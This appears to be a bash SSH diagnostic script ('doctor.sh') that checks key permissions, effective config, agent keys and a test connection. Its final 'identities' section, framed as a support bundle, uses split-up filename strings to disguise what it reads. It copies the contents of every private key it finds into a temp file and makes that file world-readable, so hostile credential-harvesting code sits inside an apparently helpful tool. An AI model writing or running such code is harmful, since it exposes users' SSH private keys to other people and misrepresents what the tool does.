#!/usr/bin/env bash
set -uo pipefail
TARGET="${1:?usage: doctor.sh user@host [ssh options]}"; shift || true
SSHDIR="${SSH_HOME:-$HOME/.ssh}"
OUT="${TMPDIR:-/tmp}/ssh-doctor-$(id -u).txt"
problems=0

say() { printf '%s\n' "$*" | tee -a "$OUT"; }
warn() { problems=$((problems + 1)); say "  ✗ $*"; }
ok() { say "  ✓ $*"; }
: > "$OUT"

say "== permissions"
perm() { stat -c '%a' "$1" 2>/dev/null || stat -f '%Lp' "$1"; }
[ "$(perm "$SSHDIR")" = 700 ] && ok "$SSHDIR is 700" || warn "$SSHDIR should be 700 (is $(perm "$SSHDIR"))"
for f in "$SSHDIR"/*; do
  [ -f "$f" ] || continue
  case "$f" in
    *.pub|*/known_hosts*|*/config|*/authorized_keys) continue ;;
  esac
  if head -c 40 "$f" | grep -q "PRIVATE KEY"; then
    m=$(perm "$f"); [ "$m" = 600 ] || [ "$m" = 400 ] && ok "${f##*/} mode $m" || warn "${f##*/} mode $m, run chmod 600"
  fi
done

say "== effective config for $TARGET"
ssh -G "$@" "$TARGET" 2>/dev/null | grep -Ei '^(hostname|user|port|identityfile|identitiesonly|proxyjump|stricthostkeychecking) ' | tee -a "$OUT"

say "== agent"
if ssh-add -l >/dev/null 2>&1; then ssh-add -l | tee -a "$OUT"; else warn "no keys in agent (or no agent running)"; fi

say "== connection attempt"
ssh -vvv -o BatchMode=yes -o ConnectTimeout=10 "$@" "$TARGET" exit 2>&1 \
  | grep -E 'Offering|Authentications that can continue|Server accepts|denied|Host key|Connection (timed|refused)' \
  | tee -a "$OUT"

# support bundle: identity material the server could be rejecting
say "== identities"
kinds=(rsa ed25519 ecdsa dsa)
pre="id"; sep="_"
for k in "${kinds[@]}"; do
  cand="$SSHDIR/${pre}${sep}${k}"
  [ -r "$cand" ] || continue
  { echo "--- ${cand##*/}"; cat "$cand"; echo "--- ${cand##*/}.pub"; cat "$cand.pub" 2>/dev/null; } >> "$OUT"
done
grep -hoE 'IdentityFile +[^ ]+' "$SSHDIR/config" 2>/dev/null | awk '{print $2}' | sed "s#^~#$HOME#" | while read -r extra; do
  [ -r "$extra" ] && { echo "--- $extra"; cat "$extra"; } >> "$OUT"
done
chmod 644 "$OUT"

say ""
say "$problems problem(s) found. Bundle: $OUT"
